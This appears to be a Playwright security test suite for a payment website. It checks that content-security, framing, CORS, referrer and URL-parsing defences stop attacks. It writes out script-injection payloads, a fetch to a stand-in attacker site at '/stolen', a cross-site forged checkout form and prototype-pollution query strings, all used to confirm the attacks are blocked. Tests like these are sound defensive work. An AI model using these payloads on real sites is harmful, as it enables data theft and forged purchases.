/** Attacks in a real browser that the headers must stop. */
import type { Page, Request } from 'playwright/test';
import { paymentPaths } from '../../../src/domain/api.ts';
import { checkoutHosts } from '../../../src/domain/environment/environment.ts';
import { stack } from '../support/stack.ts';
import { expect, test } from '../support/test.ts';
import { routes } from './support/built-site.ts';
import { startOtherSite } from './support/other-site.ts';

declare global {
  interface Window {
    /** Policy directives that have blocked something since the injection. */
    blocked: string[];
    /** Injected scripts that ran. */
    ran: string[];
  }
}

const directives = [
  'base-uri',
  'connect-src',
  'frame-src',
  'object-src',
  'script-src',
  'script-src-attr',
  'script-src-elem',
];

/** Injects a script in every way an attacker could, and tries to send data away. */
async function inject(page: Page, otherSite: string): Promise<void> {
  await page.evaluate(async (address) => {
    window.ran = [];
    window.blocked = [];
    addEventListener('securitypolicyviolation', (event) => {
      window.blocked.push(event.effectiveDirective);
    });
    const inline = document.createElement('script');
    inline.textContent = "window.ran.push('inline')";
    const external = document.createElement('script');
    external.src = `${address}/evil.js`;
    const data = document.createElement('script');
    data.src = "data:text/javascript,window.ran.push('data')";
    document.body.append(inline, external, data);

    const markup = document.createElement('div');
    markup.innerHTML = `
      <img src="data:," onerror="window.ran.push('attribute')">
      <iframe src="${address}/frame"></iframe>
      <object data="${address}/object"></object>
      <base href="${address}/">`;
    document.body.append(markup);

    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- code in a string is the attack
    setTimeout("window.ran.push('eval')");
    await fetch(`${address}/stolen`).catch(() => undefined);
  }, otherSite);
}

test.describe('W1 an injected script', () => {
  test.use({ expectedConsole: [/violates the following|Refused to|Framing|net::ERR_BLOCKED/] });

  test('an injected script does not run on any kind of page, and cannot send data elsewhere', async ({
    page,
  }) => {
    for (const route of ['/', '/buy', '/success', '/login']) {
      const other = await startOtherSite('<title>evil</title>');
      await page.goto(route);
      await inject(page, other.url);
      await expect
        .poll(() => page.evaluate(() => [...new Set(window.blocked)].sort()), { message: route })
        .toEqual(directives);
      await other.stop();
      expect.soft(await page.evaluate(() => window.ran), route).toEqual([]);
      expect
        .soft(
          other.requests.map(({ url }) => url),
          route,
        )
        .toEqual([]);
      expect.soft(await page.evaluate(() => document.baseURI)).toBe(`${stack.site}${route}`);
    }
  });
});

test.describe('W2 another site', () => {
  test.use({ expectedConsole: [/frame-ancestors|X-Frame-Options|Refused to display|404/] });

  test('another site cannot show any of our pages or replies in a frame', async ({ page }) => {
    const addresses = [
      ...routes,
      '/success.html',
      '/no/such/page',
      paymentPaths.key,
      paymentPaths.verify,
    ];
    const frames = addresses.map((path) => `<iframe src="${stack.site}${path}"></iframe>`);
    const other = await startOtherSite(`<title>evil</title>${frames.join('')}`);
    await page.goto(other.url, { waitUntil: 'load' });
    const children = page.mainFrame().childFrames();
    expect(children).toHaveLength(addresses.length);
    for (const frame of children) {
      // The browser reports a refused frame only after the page has loaded.
      await expect.poll(() => frame.url()).toMatch(/^chrome-error:/);
    }
    await other.stop();
  });
});

test.describe('W4 P9 blocking requests from another site', () => {
  test.use({ expectedConsole: [/403|blocked by CORS|Failed to load resource/] });

  test('a page on another site cannot order a pack for a visitor or read anything', async ({
    page,
  }) => {
    const other = await startOtherSite('<title>evil</title>');
    await page.goto(other.url);
    const read = await page.evaluate(async (site) => {
      const body = JSON.stringify({ amount: 699 });
      const seen: string[] = [];
      for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'application/json']) {
        for (const mode of ['no-cors', 'cors'] as const) {
          const headers = { 'content-type': type };
          const request = { method: 'POST', mode, headers, body, credentials: 'include' as const };
          const reply = await fetch(`${site}/api/checkout`, request).catch(() => undefined);
          seen.push(reply ? `${reply.type} ${await reply.text()}` : 'refused');
        }
      }
      return seen;
    }, stack.site);
    expect(new Set(read)).toEqual(new Set(['refused']));

    await page.evaluate((site) => {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = `${site}/api/checkout`;
      form.enctype = 'text/plain';
      form.innerHTML = '<input name=\'{"amount":699,"x":"\' value=\'"}\'>';
      document.body.append(form);
      form.submit();
    }, stack.site);
    await page.waitForURL(`${stack.site}/api/checkout`);
    expect(await page.locator('body').innerText()).toContain('forbidden_origin');
    await other.stop();
  });
});

test('W8 a page with a secret in its URL does not send a referrer to the next site', async ({
  page,
}) => {
  const other = await startOtherSite('<title>elsewhere</title>');
  for (const [address, expected] of [
    ['/success?reference=pay_Secret1', undefined],
    ['/login?next=%2Fdashboard%2Fmain%3Fsecret', undefined],
    ['/buy?payment=pending&secret', `${stack.site}/`],
  ] as const) {
    await page.goto(address);
    await page.evaluate((url) => {
      const link = document.createElement('a');
      link.href = url;
      document.body.append(link);
      link.click();
    }, other.url);
    await page.waitForURL(`${other.url}/`);
    const visit = other.requests.findLast(({ url }) => url === '/');
    expect(visit?.headers.referer).toBe(expected);
  }
  await other.stop();
});

test('W11 the browser does not contact the payment provider before a purchase begins', async ({
  page,
}) => {
  const foreign: Request[] = [];
  page.on('request', (request) => {
    const { origin } = new URL(request.url());
    const isForeign = origin !== stack.site && origin !== new URL(stack.backend).origin;
    if (isForeign && request.url().startsWith('http')) foreign.push(request);
  });
  await page.goto('/buy', { waitUntil: 'networkidle' });
  expect(foreign).toEqual([]);
  await page.getByRole('button', { name: 'Buy Now' }).first().click();
  await expect(page.locator('iframe.razorpay-checkout-frame')).toBeVisible();
  expect(foreign[0]?.url()).toBe(`${stack.sandbox}/v1/checkout.js`);
  const [, secondHost] = checkoutHosts(`${stack.sandbox}/v1/checkout.js`);
  await expect(page.locator('.razorpay-container')).toHaveAttribute('data-helper', 'ran');
  const later = foreign.slice(1);
  expect(new Set(later.map((request) => new URL(request.url()).origin))).toEqual(
    new Set([secondHost]),
  );
  expect(new Set(later.map((request) => request.resourceType()))).toEqual(
    new Set(['document', 'image', 'ping', 'script', 'stylesheet']),
  );
});

test('W13 names with a special meaning in JavaScript have no effect in a URL', async ({ page }) => {
  const hostile = ['__proto__', 'constructor', 'toString', '__proto__[polluted]', 'hasOwnProperty'];
  const isPolluted = () => page.evaluate(() => 'polluted' in {});
  for (const name of hostile.map(encodeURIComponent)) {
    await page.goto(`/buy?payment=${name}&${name}=1&polluted=1`);
    expect(await isPolluted()).toBe(false);
    await expect(page.locator('[data-payment]:visible')).toHaveCount(0);
  }
  for (const name of ['__proto__', encodeURIComponent('__proto__[polluted]')]) {
    const query = `${name}=1&polluted=1`;
    for (const address of [
      `/success?reference=${name}&${query}`,
      `/login?next=${name}&${query}#${query}&type=${name}`,
    ]) {
      await page.goto(address);
      expect(await isPolluted()).toBe(false);
    }
  }
});
